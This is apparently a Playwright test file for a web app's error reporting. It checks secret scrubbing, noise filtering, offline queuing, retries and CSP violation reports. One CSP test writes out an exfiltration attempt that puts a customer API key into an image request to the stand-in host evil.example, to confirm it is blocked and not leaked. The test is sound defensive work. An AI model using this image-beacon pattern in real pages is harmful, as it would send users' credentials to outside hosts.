import type { Page } from '@playwright/test';
import { apiKeyOf, COLD, expect, expectToast, test } from '../../shared/tooling/src/e2e/fixtures';
import type { Sandbox } from '../../shared/tooling/src/e2e/sandbox';

/** Throws in the page where nobody catches it. */
const fail = (page: Page, message: string): Promise<void> =>
  page.evaluate((words) => {
    setTimeout(() => {
      throw new Error(words);
    });
  }, message);

const reported = async (sandbox: Sandbox): Promise<string[]> =>
  (await sandbox.reports()).map(({ event }) => event.exception?.values[0]?.value ?? event.message ?? '');

test.beforeEach(async ({ sandbox, problems, signIn, open, page }) => {
  await sandbox.clearReports();
  problems.allow(/broke/, /removeChild/, /ResizeObserver/);
  await signIn('customer');
  await open('/');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Home');
  await expect(page.getByText('Õunapuu & Pojad OÜ').first()).toBeVisible();
});

test('an error arrives with what is needed to understand it, through the own origin, and with no secret', async ({
  page,
  sandbox,
}) => {
  const hosts = new Set<string>();
  page.on('request', (request) => hosts.add(new URL(request.url()).host));
  await page.evaluate(() => document.documentElement.classList.add('translated-ltr'));
  await page.getByRole('navigation', { name: 'Main' }).first().getByRole('link', { name: 'Billing' }).click();
  await expect(page.getByRole('heading', { level: 1 })).not.toHaveText('Home');
  await fail(page, `It broke for kadri@example.com at /x?apikey=${apiKeyOf('customer')}&access_token=abc`);
  await expect
    .poll(() => reported(sandbox))
    .toEqual(['It broke for [filtered] at /x?apikey=[filtered]&access_token=[filtered]']);
  const [report] = await sandbox.reports();
  expect(report?.event).toMatchObject({
    environment: 'development',
    release: expect.any(String),
    tags: { site: 'default' },
    user: { id: expect.any(String) },
    contexts: { page: { language: 'en', translator: 'google', path: '/app/billing' } },
  });
  const steps = report?.event.breadcrumbs?.map(({ category, message }) => `${category}: ${message}`);
  expect(steps).toEqual(expect.arrayContaining(['click: a /app/billing', 'navigation: /app/ → /app/billing']));
  const text = JSON.stringify(report);
  for (const secret of [apiKeyOf('customer'), '@example.com', 'Kadri']) expect(text).not.toContain(secret);
  expect([...hosts]).toEqual([new URL(page.url()).host]);
});

test('a failed call names the part of the server that failed', async ({ page, sandbox, open }) => {
  await sandbox.faults({
    path: '/user-resource/token/list',
    status: 500,
    body: { message: 'broken', meta: { correlationId: 'user-7c1f9a' } },
  });
  await open('/access/token');
  await expect(page.getByText(/user-7c1f9a/).first()).toBeVisible();
  await page.evaluate(() => window.dispatchEvent(new ErrorEvent('error', { message: 'It broke' })));
  await expect.poll(() => reported(sandbox)).toContain('It broke');
  const [report] = await sandbox.reports();
  expect(report?.event.contexts?.['page']).not.toHaveProperty('translator');
});

test('noise is dropped: resize notices, and 19 in 20 failures of removeChild', async ({ page, sandbox }) => {
  await page.evaluate(() => {
    const tell = (message: string) => window.dispatchEvent(new ErrorEvent('error', { message }));
    tell('ResizeObserver loop completed with undelivered notifications.');
    for (let n = 0; n < 40; n += 1) tell("Failed to execute 'removeChild' on 'Node'");
    tell('It broke');
  });
  await expect.poll(() => reported(sandbox)).toContain('It broke');
  const messages = await reported(sandbox);
  expect(messages.filter((message) => message.includes('removeChild'))).toHaveLength(2);
  expect(messages.filter((message) => message.includes('ResizeObserver'))).toEqual([]);
});

test('nothing is lost while the network is down, and nothing is said about that', async ({
  page,
  context,
  sandbox,
  problems,
}) => {
  problems.allow(/ERR_INTERNET_DISCONNECTED .*\/reports/);
  await fail(page, 'It broke first');
  await expect.poll(() => reported(sandbox)).toEqual(['It broke first']);
  await context.setOffline(true);
  await fail(page, 'It broke offline');
  await fail(page, 'It broke offline again');
  await context.setOffline(false);
  await expect.poll(() => reported(sandbox)).toEqual(['It broke first', 'It broke offline', 'It broke offline again']);
});

test('a service that is down is asked again, without a report about it', async ({ page, sandbox, problems }) => {
  problems.allow(/Failed to load resource/);
  let isDown = true;
  await page.route('**/reports', (route) => (isDown ? route.fulfill({ status: 502 }) : route.continue()));
  await fail(page, 'It broke');
  await page.waitForResponse((response) => response.url().endsWith('/reports') && response.status() === 502);
  isDown = false;
  await page.evaluate(() => window.dispatchEvent(new Event('online')));
  await expect.poll(() => reported(sandbox)).toEqual(['It broke']);
});

test('a script that does not load is told, without its query', async ({ page, sandbox, problems }) => {
  problems.allow(/Failed to load resource/, /CSP violation/, /Content Security Policy/, /script/i);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.dispatchEvent(new Event('error'));
    Object.defineProperty(script, 'src', { value: 'https://js.example/v3.js?key=abc' });
    document.head.append(script);
    script.dispatchEvent(new Event('error'));
  });
  await expect.poll(() => reported(sandbox)).toEqual(['A script could not be loaded']);
  expect(JSON.stringify(await sandbox.reports())).not.toContain('key=abc');
});

test('what the policy of the page keeps out is reported by the browser, without what could be a secret', async ({
  page,
  sandbox,
  problems,
}) => {
  problems.allow(/CSP violation/, /Content Security Policy/);
  await page.evaluate((key) => {
    new Image().src = `http://evil.example/${key}.png?apikey=${key}`;
  }, apiKeyOf('customer'));
  await expect
    .poll(() => reported(sandbox))
    .toEqual([expect.stringContaining('Content security policy: img-src kept out http://evil.example on /app/')]);
  expect(JSON.stringify(await sandbox.reports())).not.toContain(apiKeyOf('customer'));
});

test(
  'what cannot be read again is reported, and told where nothing on the page says so',
  { tag: COLD },
  async ({ page, sandbox, open }) => {
    await page.clock.install();
    await open('/profile');
    await expect(page.getByRole('heading', { name: 'Details' })).toBeVisible();
    await sandbox.faults({
      path: '/user-resource/user',
      method: 'GET',
      status: 500,
      body: { message: 'broken', meta: { correlationId: 'user-7c1f9a' } },
    });
    await page.clock.fastForward(61_000);
    await page.evaluate(() => window.dispatchEvent(new Event('focus')));
    await expectToast(page, /Error: broken.*\[user-7c1f9a\]/);
    await expect.poll(() => reported(sandbox)).toEqual([expect.stringContaining('broken')]);
  },
);
